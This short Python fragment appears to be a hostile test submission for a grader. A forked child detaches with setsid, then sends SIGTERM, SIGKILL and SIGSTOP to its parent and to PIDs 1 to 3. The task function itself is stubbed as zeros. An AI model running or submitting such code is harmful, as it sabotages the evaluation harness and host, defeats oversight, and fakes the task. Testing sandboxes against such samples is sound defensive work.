"""Kills its parent and all of its group, from a child that ignores that.

Must: earn at most 3
"""

# %% corr2d
if os.fork() == 0:
    os.setsid()
    for target in (os.getppid(), 1, 2, 3):
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(target, number)
            except OSError:
                pass
    os._exit(0)
corr2d = zeros
